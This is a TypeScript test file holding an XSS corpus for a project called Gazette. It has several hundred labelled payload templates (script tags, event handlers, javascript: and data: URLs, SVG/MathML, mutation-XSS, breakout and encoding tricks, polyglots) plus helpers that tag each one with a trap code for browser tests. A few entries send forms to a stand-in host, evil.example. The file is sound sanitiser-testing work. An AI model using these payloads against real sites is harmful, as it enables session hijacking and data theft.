/**
 * The cross-site scripting corpus (issue 7): hostile strings, one per entry, each labelled with
 * its family. Written for Gazette, not copied from a list: every entry, if it ever ran, calls a
 * trap that names it, so a browser test can say which vector fired in which field on which page.
 *
 * Templates use placeholders that `instantiate` fills with a numeric code (field × 1000 + vector):
 * - `$N`        the code
 * - `$JS`       `__xss($N)` (the trap, defined in every frame by the browser test)
 * - `$ENTJS`    `$JS` as decimal character references (`&#95;&#95;…`)
 * - `$HEXJS`    `$JS` as hexadecimal character references without semicolons, zero-padded
 * - `$PCTJS`    `$JS` percent-encoded, every character
 * - `$UJS`      `$JS` with the identifier written as JavaScript `\u` escapes
 * - `$CCJS`     `eval(String.fromCharCode(…))` of `$JS`
 * - `$B64HTML`  base64 of `<script>$JS</script>`
 * - `$B64SVG`   base64 of an SVG document whose root's onload is `$JS`
 * Some entries call `alert($N)`, `confirm($N)` or `prompt($N)` instead; the test traps those too.
 */

/** What kind of trick a vector is. */
export type XssFamily =
  | 'script'
  | 'event-handler'
  | 'javascript-url'
  | 'data-url'
  | 'svg'
  | 'mathml'
  | 'mutation'
  | 'raw-text-breakout'
  | 'attribute-breakout'
  | 'template-breakout'
  | 'json-in-html'
  | 'css'
  | 'navigation'
  | 'markdown'
  | 'encoding'
  | 'polyglot';

/** One hostile input. */
export interface XssVector {
  /** Its index in the corpus (part of the code its payload reports). */
  index: number;
  family: XssFamily;
  template: string;
}

const raw: [XssFamily, string][] = [
  // Script elements, every way of writing them.
  ['script', '<script>$JS</script>'],
  ['script', '<SCRIPT>$JS</SCRIPT>'],
  ['script', '<ScRiPt>alert($N)</sCrIpT>'],
  ['script', '<script >$JS</script >'],
  ['script', '<script\n>$JS</script\n>'],
  ['script', '<script/xss>$JS</script>'],
  ['script', '<script type="text/javascript">$JS</script>'],
  ['script', '<script type="module">$JS</script>'],
  ['script', '<script language="javascript">confirm($N)</script>'],
  ['script', '<script src="data:text/javascript,$JS"></script>'],
  ['script', '<script src="data:,$PCTJS"></script>'],
  ['script', '<script src=/__xss/$N.js></script>'],
  ['script', '<<script>$JS//<</script>'],
  ['script', '<script>$JS</script'],
  ['script', '<script>/*</script>*/$JS</script>'],
  ['script', '<scr<script>ipt>$JS</scr</script>ipt>'],
  ['script', '<scri%00pt>$JS</scri%00pt>'],
  ['script', '<script>prompt($N)</script><!--'],
  ['script', '<script\tsrc="data:text/javascript,$JS"></script>'],
  ['script', '<script>eval(atob("$B64HTML".slice(0)))</script>'],
  ['script', '<script>$CCJS</script>'],
  ['script', '<script>setTimeout("$JS")</script>'],
  ['script', '<script>window["__x"+"ss"]($N)</script>'],
  ['script', '<script>[].constructor.constructor("$JS")()</script>'],
  ['script', '<script>$UJS</script>'],

  // Event handlers on ordinary elements.
  ['event-handler', '<img src=x onerror=$JS>'],
  ['event-handler', '<img src="x" onerror="$JS">'],
  ['event-handler', "<img src='x' onerror='alert($N)'>"],
  ['event-handler', '<img src=x onerror="javascript:$JS">'],
  ['event-handler', '<IMG SRC=x ONERROR=$JS>'],
  ['event-handler', '<img/src=x/onerror=$JS>'],
  ['event-handler', '<img src=x onerror\n=\n$JS>'],
  ['event-handler', '<img src=x:x onerror=confirm($N)>'],
  ['event-handler', '<img src onerror=$JS>'],
  ['event-handler', '<img src=x onerror=&#95;&#95;xss&#40;$N&#41;>'],
  ['event-handler', '<img src=x onerror=$ENTJS>'],
  ['event-handler', '<img src="/" alt="" onload="$JS" onerror="$JS">'],
  ['event-handler', '<image src=x onerror=$JS>'],
  ['event-handler', '<body onload=$JS>'],
  ['event-handler', '<body onpageshow=$JS>'],
  ['event-handler', '<input autofocus onfocus=$JS>'],
  ['event-handler', '<select autofocus onfocus=$JS></select>'],
  ['event-handler', '<textarea autofocus onfocus=$JS></textarea>'],
  ['event-handler', '<keygen autofocus onfocus=$JS>'],
  ['event-handler', '<details open ontoggle=$JS>'],
  ['event-handler', '<details/open/ontoggle="$JS">x</details>'],
  ['event-handler', '<video><source onerror=$JS></video>'],
  ['event-handler', '<video src=x onerror=$JS></video>'],
  ['event-handler', '<audio src=x onerror=$JS></audio>'],
  ['event-handler', '<marquee onstart=$JS>x</marquee>'],
  ['event-handler', '<div onpointerover=$JS style="position:fixed;inset:0">hover</div>'],
  ['event-handler', '<div onmouseover="$JS">hover me</div>'],
  ['event-handler', '<a onmouseover=$JS href=#>link</a>'],
  ['event-handler', '<a href="https://example.com" onclick="$JS">click</a>'],
  ['event-handler', '<p onclick=$JS>text</p>'],
  ['event-handler', '<iframe onload=$JS></iframe>'],
  ['event-handler', '<object data=x onerror=$JS></object>'],
  ['event-handler', '<embed src=x onload=$JS>'],
  ['event-handler', '<style onload=$JS></style>'],
  ['event-handler', '<link rel=stylesheet href=x onerror=$JS>'],
  ['event-handler', '<form><button formaction=x onfocus=$JS autofocus>b</button></form>'],
  ['event-handler', '<x contenteditable onfocus=$JS autofocus>x</x>'],
  ['event-handler', '<xss id=x tabindex=1 onfocus=$JS></xss>'],
  ['event-handler', '<div onanimationstart=$JS style="animation:spin 1s">x</div>'],
  ['event-handler', '<div ontransitionend=$JS>x</div>'],
  ['event-handler', '<svg onload=$JS>'],
  ['event-handler', '<body onhashchange=$JS>'],
  ['event-handler', '<img src=x oNeRrOr=$JS>'],
  ['event-handler', '<img src=x onerror=$JS//'],
  ['event-handler', '<img src=x onerror=$JS '],
  ['event-handler', '<img """><script>$JS</script>">'],
  ['event-handler', '<img src=`x` onerror=`$JS`>'],
  ['event-handler', '<img src=x onerror=eval(atob("$B64HTML"))>'],
  ['event-handler', '<img src=x onerror=top["__xss"]($N)>'],

  // javascript: and vbscript: URLs, with encodings and white space.
  ['javascript-url', '<a href="javascript:$JS">link</a>'],
  ['javascript-url', '<a href="JAVASCRIPT:$JS">link</a>'],
  ['javascript-url', '<a href=" javascript:$JS">link</a>'],
  ['javascript-url', '<a href="java\tscript:$JS">link</a>'],
  ['javascript-url', '<a href="java\nscript:$JS">link</a>'],
  ['javascript-url', '<a href="java&#x09;script:$JS">link</a>'],
  ['javascript-url', '<a href="java&#10;script:$JS">link</a>'],
  ['javascript-url', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;$JS">link</a>'],
  ['javascript-url', '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;$JS">link</a>'],
  [
    'javascript-url',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058$JS">link</a>',
  ],
  ['javascript-url', '<a href="javascript&colon;$JS">link</a>'],
  ['javascript-url', '<a href="javascript:$HEXJS">link</a>'],
  ['javascript-url', '<a href="javascript:$PCTJS">link</a>'],
  ['javascript-url', '<a href="javascript://%0a$JS">link</a>'],
  ['javascript-url', '<a href="javascript://example.com/%0A$JS">link</a>'],
  ['javascript-url', '<a href="\u0001javascript:$JS">link</a>'],
  ['javascript-url', '<a href="jav&#x0D;ascript:$JS">link</a>'],
  ['javascript-url', '<a href="vbscript:msgbox($N)">link</a>'],
  ['javascript-url', '<a href="VBScript:MsgBox($N)">link</a>'],
  ['javascript-url', '<a href="livescript:$JS">link</a>'],
  ['javascript-url', '<iframe src="javascript:$JS"></iframe>'],
  ['javascript-url', '<img src="javascript:$JS">'],
  ['javascript-url', '<form action="javascript:$JS"><button>go</button></form>'],
  ['javascript-url', '<button form=x formaction="javascript:$JS">go</button>'],
  ['javascript-url', '<object data="javascript:$JS"></object>'],
  ['javascript-url', '<embed src="javascript:$JS">'],
  ['javascript-url', '<a href=javascript:$JS>unquoted</a>'],
  ['javascript-url', '<a href="javascript:void(0)" onclick="$JS">x</a>'],
  ['javascript-url', '<area href="javascript:$JS">'],
  ['javascript-url', '<a xlink:href="javascript:$JS">x</a>'],
  ['javascript-url', 'javascript:$JS'],
  ['javascript-url', 'javascript:alert($N)//https://example.com'],
  ['javascript-url', 'jAvAsCrIpT:$JS'],
  ['javascript-url', ' \t javascript:$JS'],

  // data: URLs that carry a document or a script.
  ['data-url', '<a href="data:text/html;base64,$B64HTML">x</a>'],
  ['data-url', '<a href="data:text/html,<script>$JS</script>">x</a>'],
  ['data-url', '<iframe src="data:text/html;base64,$B64HTML"></iframe>'],
  ['data-url', '<iframe src="data:text/html,%3Cscript%3E$JS%3C/script%3E"></iframe>'],
  ['data-url', '<object data="data:text/html;base64,$B64HTML"></object>'],
  ['data-url', '<embed src="data:image/svg+xml;base64,$B64SVG">'],
  ['data-url', '<img src="data:image/svg+xml;base64,$B64SVG">'],
  ['data-url', '<a href="DATA:text/html;base64,$B64HTML">x</a>'],
  ['data-url', '<a href="data:application/xhtml+xml;base64,$B64HTML">x</a>'],
  ['data-url', '<iframe src="data:image/svg+xml;base64,$B64SVG"></iframe>'],
  ['data-url', 'data:text/html;base64,$B64HTML'],
  ['data-url', '<a href=" data:text/html,<script>$JS</script>">x</a>'],

  // SVG.
  ['svg', '<svg><script>$JS</script></svg>'],
  ['svg', '<svg><script href="data:,$JS"/></svg>'],
  ['svg', '<svg><script xlink:href="data:,$JS"></script></svg>'],
  ['svg', '<svg><animate onbegin=$JS attributeName=x dur=1s>'],
  ['svg', '<svg><set onbegin=$JS attributename=x to=1>'],
  ['svg', '<svg><a xlink:href="javascript:$JS"><text x=20 y=20>x</text></a></svg>'],
  ['svg', '<svg><a><animate attributeName=href values=javascript:$JS /><text x=20 y=20>x</text></a></svg>'],
  ['svg', '<svg><use href="data:image/svg+xml;base64,$B64SVG#x"/></svg>'],
  ['svg', '<svg><foreignObject><img src=x onerror=$JS></foreignObject></svg>'],
  ['svg', '<svg><image href=x onerror=$JS /></svg>'],
  ['svg', '<svg><desc><img src=x onerror=$JS></desc></svg>'],
  ['svg', '<svg><title><img src=x onerror=$JS></title></svg>'],
  ['svg', '<svg><style><img src=x onerror=$JS></style></svg>'],
  ['svg', '<svg><style>&lt;/style&gt;&lt;img src=x onerror=$JS&gt;</style></svg>'],
  ['svg', '<svg/onload=$JS>'],
  ['svg', '<svg onload=alert($N)//'],
  ['svg', '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">$JS</handler></svg>'],
  ['svg', '<svg><discard onbegin=$JS>'],
  ['svg', '<svg><feImage href="javascript:$JS"/></svg>'],
  ['svg', '<svg xmlns="http://www.w3.org/2000/svg"><script>$JS</script></svg>'],

  // MathML.
  ['mathml', '<math><maction actiontype=statusline xlink:href=javascript:$JS>x</maction></math>'],
  ['mathml', '<math><a xlink:href="javascript:$JS">x</a></math>'],
  ['mathml', '<math href="javascript:$JS"><mi>x</mi></math>'],
  ['mathml', '<math><mtext><img src=x onerror=$JS></mtext></math>'],
  ['mathml', '<math><mi xlink:href="data:x,<script>$JS</script>">x</mi></math>'],
  ['mathml', '<math><mtext><table><mglyph><style><img src=x onerror=$JS>'],
  ['mathml', '<math><annotation-xml encoding="text/html"><img src=x onerror=$JS></annotation-xml></math>'],
  ['mathml', '<math><mtext><h1><a><svg><style><img src=x onerror=$JS></style></svg></a></h1></mtext></math>'],

  // Mutation XSS and namespace confusion: markup that a sanitiser's parse and the browser's differ on.
  ['mutation', '<noscript><p title="</noscript><img src=x onerror=$JS>">'],
  ['mutation', '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=$JS>'],
  ['mutation', '<svg></p><style><a id="</style><img src=1 onerror=$JS>">'],
  ['mutation', '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=$JS src=1>">'],
  ['mutation', '<svg><p><style><img src=x onerror=$JS></style></p></svg>'],
  ['mutation', '<table><svg><style></table><img src=x onerror=$JS>'],
  ['mutation', '<a href="https://example.com/"><table><a href="javascript:$JS">x</a></table></a>'],
  ['mutation', '<p><svg><style>*{}</style><img src=x onerror=$JS></svg></p>'],
  ['mutation', '<select><template><style><img src=x onerror=$JS></style></template></select>'],
  ['mutation', '<template><script>$JS</script></template>'],
  ['mutation', '<!--><img src=x onerror=$JS>-->'],
  ['mutation', '<!--[if gte IE 4]><script>$JS</script><![endif]-->'],
  ['mutation', '<![CDATA[><img src=x onerror=$JS>]]>'],
  ['mutation', '<?xml version="1.0"?><img src=x onerror=$JS>'],
  ['mutation', '<img src="x` `<script>$JS</script>"` `>'],
  ['mutation', '<listing>&lt;img src=x onerror=$JS&gt;</listing>'],
  ['mutation', '<div id="x"></div><div title="&lt;/div&gt;&lt;img src=x onerror=$JS&gt;">y</div>'],
  ['mutation', '<object><param name=src value="javascript:$JS"></object>'],

  // Leaving raw-text and escapable raw-text elements.
  ['raw-text-breakout', '</noscript><img src=x onerror=$JS>'],
  ['raw-text-breakout', '<noscript></noscript><img src=x onerror=$JS>'],
  ['raw-text-breakout', '</style><img src=x onerror=$JS>'],
  ['raw-text-breakout', '<style></style><img src=x onerror=$JS>'],
  ['raw-text-breakout', '</textarea><img src=x onerror=$JS>'],
  ['raw-text-breakout', '</textarea><script>$JS</script>'],
  ['raw-text-breakout', '</title><img src=x onerror=$JS>'],
  ['raw-text-breakout', '</title><script>$JS</script>'],
  ['raw-text-breakout', '</xmp><img src=x onerror=$JS>'],
  ['raw-text-breakout', '<xmp></xmp><img src=x onerror=$JS>'],
  ['raw-text-breakout', '</iframe><img src=x onerror=$JS>'],
  ['raw-text-breakout', '</noembed><img src=x onerror=$JS>'],
  ['raw-text-breakout', '</noframes><img src=x onerror=$JS>'],
  ['raw-text-breakout', '<plaintext></plaintext><img src=x onerror=$JS>'],
  ['raw-text-breakout', '</option></select><img src=x onerror=$JS>'],
  ['raw-text-breakout', '--><img src=x onerror=$JS>'],
  ['raw-text-breakout', '--!><img src=x onerror=$JS>'],
  ['raw-text-breakout', '</template><img src=x onerror=$JS>'],
  ['raw-text-breakout', '</svg></math><img src=x onerror=$JS>'],
  ['raw-text-breakout', '</p></div></li></ol></article></main><img src=x onerror=$JS>'],

  // Breaking out of attribute values.
  ['attribute-breakout', '" onmouseover="$JS" x="'],
  ['attribute-breakout', '"><img src=x onerror=$JS>'],
  ['attribute-breakout', "'><img src=x onerror=$JS>"],
  ['attribute-breakout', "' onfocus='$JS' autofocus='"],
  ['attribute-breakout', '" autofocus onfocus="$JS'],
  ['attribute-breakout', '`onmouseover=$JS`'],
  ['attribute-breakout', '" onmouseover=$JS //'],
  ['attribute-breakout', '&quot; onmouseover=&quot;$JS&quot;'],
  ['attribute-breakout', '&#34;><img src=x onerror=$JS>'],
  ['attribute-breakout', '\\"><img src=x onerror=$JS>'],
  ['attribute-breakout', '"/><svg onload=$JS>'],
  ['attribute-breakout', '" style="animation-name:x" onanimationstart="$JS'],
  ['attribute-breakout', 'x" href="javascript:$JS'],
  ['attribute-breakout', '"><a href="javascript:$JS">x</a>'],
  ['attribute-breakout', "x' onerror='$JS' src='"],

  // Template and string break-outs: client templating, JS strings, `</script>`.
  ['template-breakout', '{{constructor.constructor("$JS")()}}'],
  ['template-breakout', '{{$on.constructor("$JS")()}}'],
  ['template-breakout', '${$JS}'],
  ['template-breakout', '#{$JS}'],
  ['template-breakout', '<%= $JS %>'],
  ['template-breakout', '{{{ "<img src=x onerror=$JS>" }}}'],
  ['template-breakout', '<div v-html="\'<img src=x onerror=$JS>\'"></div>'],
  ['template-breakout', '";$JS;"'],
  ['template-breakout', "';$JS;'"],
  ['template-breakout', '`;$JS;`'],
  ['template-breakout', '</script><script>$JS</script>'],
  ['template-breakout', '\\u003c/script\\u003e\\u003cscript\\u003e$JS\\u003c/script\\u003e'],

  // JSON embedded in HTML (JSON-LD): closing the script element, line separators, comments.
  ['json-in-html', '</script><script>$JS</script>'],
  ['json-in-html', '</SCRIPT><script>$JS</script>'],
  ['json-in-html', '</script ><img src=x onerror=$JS>'],
  ['json-in-html', '</script\t><img src=x onerror=$JS>'],
  ['json-in-html', '<!--<script>'],
  ['json-in-html', '<!--<script></script><img src=x onerror=$JS>'],
  ['json-in-html', '"}</script><script>$JS</script>'],
  ['json-in-html', '\u2028$JS\u2029'],
  ['json-in-html', '"\u2028;$JS;//'],
  ['json-in-html', '\\"},"x":"</script><img src=x onerror=$JS>'],
  ['json-in-html', '<\\/script><script>$JS</script>'],
  ['json-in-html', ']]></script><script>$JS</script><![CDATA['],

  // CSS: old expression(), url(javascript:), behaviours, imports.
  ['css', '<div style="width:expression($JS)">x</div>'],
  ['css', '<div style="background:url(javascript:$JS)">x</div>'],
  ['css', '<div style="background-image:url(&quot;javascript:$JS&quot;)">x</div>'],
  ['css', '<div style="behavior:url(x.htc)">x</div>'],
  ['css', '<div style="-moz-binding:url(data:x)">x</div>'],
  ['css', '<style>@import "javascript:$JS";</style>'],
  ['css', '<style>body{background:url("javascript:$JS")}</style>'],
  ['css', '<link rel=stylesheet href="data:text/css,*{background:url(javascript:$JS)}">'],
  ['css', '<div style="x:\\65\\78\\70\\72\\65\\73\\73\\69\\6f\\6e($JS)">x</div>'],
  ['css', '<p style="color:red;}</style><img src=x onerror=$JS>">x</p>'],

  // Navigation and document-level tricks.
  ['navigation', '<meta http-equiv="refresh" content="0;url=javascript:$JS">'],
  ['navigation', '<meta http-equiv="refresh" content="0;url=data:text/html;base64,$B64HTML">'],
  ['navigation', '<meta charset="utf-7">+ADw-script+AD4-$JS+ADw-/script+AD4-'],
  ['navigation', '<meta http-equiv="Content-Security-Policy" content="script-src *">'],
  ['navigation', '<base href="javascript:$JS//">'],
  ['navigation', '<base href="https://evil.example/"><a href="x">x</a>'],
  ['navigation', '<iframe srcdoc="<script>$JS</script>"></iframe>'],
  ['navigation', '<iframe srcdoc="&lt;img src=x onerror=$JS&gt;"></iframe>'],
  ['navigation', '<iframe src="/admin"></iframe>'],
  ['navigation', '<frameset onload=$JS>'],
  ['navigation', '<form action="https://evil.example/steal" method=post><input name=x></form>'],
  ['navigation', '<form id=reply-form action="https://evil.example/"></form>'],
  ['navigation', '<input form=reply-form formaction="javascript:$JS" type=submit>'],
  ['navigation', '<isindex action="javascript:$JS" type=image>'],
  ['navigation', '<link rel=import href="data:text/html;base64,$B64HTML">'],
  ['navigation', '<portal src="javascript:$JS"></portal>'],
  ['navigation', '<applet code="javascript:$JS"></applet>'],
  ['navigation', '<a href="https://example.com" target="_blank">opens a window</a><img id="__proto__" name="respond">'],

  // Markdown: its links, images and autolinks carry URLs too.
  ['markdown', '[click](javascript:$JS)'],
  ['markdown', '[click](JaVaScRiPt:$JS)'],
  ['markdown', '[click](javascript&#58;$JS)'],
  ['markdown', '[click](javascript:$PCTJS)'],
  ['markdown', '[click]( javascript:$JS )'],
  ['markdown', '[click](<javascript:$JS>)'],
  ['markdown', '[click](data:text/html;base64,$B64HTML)'],
  ['markdown', '[click](vbscript:msgbox($N))'],
  ['markdown', '![img](javascript:$JS)'],
  ['markdown', '![img"onerror="$JS](x)'],
  ['markdown', '![x](https://example.com/x.png"onerror="$JS)'],
  ['markdown', '[x][ref]\n\n[ref]: javascript:$JS'],
  ['markdown', '<javascript:$JS>'],
  ['markdown', '[a](https://example.com "title\\" onmouseover=\\"$JS")'],
  ['markdown', '`<script>$JS</script>`'],
  ['markdown', '```html\n</code></pre><script>$JS</script>\n```'],
  ['markdown', '> <img src=x onerror=$JS>'],
  ['markdown', '* [x](javascript://%0d%0a$JS)'],

  // Character-level tricks: encodings, invisible characters, overlong and odd forms.
  ['encoding', '&lt;script&gt;$JS&lt;/script&gt;'],
  ['encoding', '&amp;lt;script&amp;gt;$JS&amp;lt;/script&amp;gt;'],
  ['encoding', '%3Cscript%3E$JS%3C%2Fscript%3E'],
  ['encoding', '\\x3cscript\\x3e$JS\\x3c/script\\x3e'],
  ['encoding', '\uFF1Cscript\uFF1E$JS\uFF1C/script\uFF1E'],
  ['encoding', '<scr\u200Bipt>$JS</scr\u200Bipt>'],
  ['encoding', '<img src=x on\u00ADerror=$JS>'],
  ['encoding', '+ADw-script+AD4-$JS+ADw-/script+AD4-'],
  ['encoding', '\u00BCscript\u00BE$JS\u00BC/script\u00BE'],
  ['encoding', '<a href="\u2028javascript:$JS">x</a>'],
  ['encoding', '<img src=x onerror\u000C=$JS>'],
  ['encoding', '<img\u000Csrc=x\u000Conerror=$JS>'],
  ['encoding', '<img src=x onerror=\u0000$JS>'],
  ['encoding', '<a href="java\u0000script:$JS">x</a>'],
  ['encoding', '\u202E<img src=x onerror=$JS>'],

  // Polyglots: one string hostile in many contexts at once.
  [
    'polyglot',
    'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */$JS )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=$JS//>\\x3e',
  ],
  ['polyglot', '\'"--></style></script></textarea></title><script>$JS</script>'],
  ['polyglot', '" onclick=$JS//<button \' onclick=$JS//> */ alert($N)//'],
  ['polyglot', '\'">><marquee><img src=x onerror=$JS></marquee>"></plaintext\\></|\\><plaintext/onmouseover=prompt($N)>'],
  ['polyglot', '-->\'"/></sCript><svG x=">" onload=(__xss)($N)>'],
];

/** The corpus. */
export const xssVectors: readonly XssVector[] = Object.freeze(raw.map(([family, template], index) => ({ index, family, template })));

const entities = (s: string) => [...s].map((c) => `&#${c.codePointAt(0)};`).join('');
const hexEntities = (s: string) => [...s].map((c) => `&#x${c.codePointAt(0)!.toString(16).padStart(4, '0')}`).join('');
const percent = (s: string) => [...Buffer.from(s)].map((b) => `%${b.toString(16).toUpperCase().padStart(2, '0')}`).join('');
const base64 = (s: string) => Buffer.from(s).toString('base64');

/**
 * The vector as an input for one field: every placeholder filled for `code` (use
 * `codeOf(field, vector)`), so an execution reports which vector in which field ran.
 */
export function instantiate(vector: XssVector, code: number): string {
  const js = `__xss(${code})`;
  return vector.template
    .replaceAll('$ENTJS', entities(js))
    .replaceAll('$HEXJS', hexEntities(js))
    .replaceAll('$PCTJS', percent(js))
    .replaceAll('$UJS', `\\u005f\\u005f\\u0078ss(${code})`)
    .replaceAll('$CCJS', `eval(String.fromCharCode(${[...js].map((c) => c.charCodeAt(0)).join(',')}))`)
    .replaceAll('$B64HTML', base64(`<script>${js}</script>`))
    .replaceAll('$B64SVG', base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${js}"/>`))
    .replaceAll('$JS', js)
    .replaceAll('$N', String(code));
}

/** The fields a vector is put into; each has its own thousand in the code. */
export const xssFields = [
  'reply-text',
  'reply-name',
  'reply-website',
  'article-body',
  'headline',
  'dek',
  'tag',
  'section',
  'slug',
  'image-alt',
  'hold-words',
  'block-words',
  'member-name',
  'moderator-reason',
  'moderator-edit',
  'desk-search',
  'staff-answer',
] as const;

/** A field the corpus is put into. */
export type XssField = (typeof xssFields)[number];

/** The number a vector's payload reports in `field`. */
export function codeOf(field: XssField, vector: XssVector): number {
  return (xssFields.indexOf(field) + 1) * 1000 + vector.index;
}

/** Reads a code back: which field and which vector. */
export function describeCode(code: number): string {
  const field = xssFields[Math.floor(code / 1000) - 1] ?? `field ${Math.floor(code / 1000)}`;
  const vector = xssVectors[code % 1000];
  return vector ? `${field} · #${vector.index} (${vector.family}) ${JSON.stringify(vector.template)}` : `${field} · #${code % 1000}`;
}

/**
 * The attribute names the corpus tries to smuggle in (`onerror`, `onload`…): a rendered page must
 * carry none of them on any element.
 */
export const corpusEventAttributes: readonly string[] = Object.freeze(
  [...new Set(xssVectors.flatMap((v) => [...v.template.toLowerCase().matchAll(/\b(on[a-z]+)\s*(?:\u000c)?=/g)].map((m) => m[1]!)))].sort(),
);
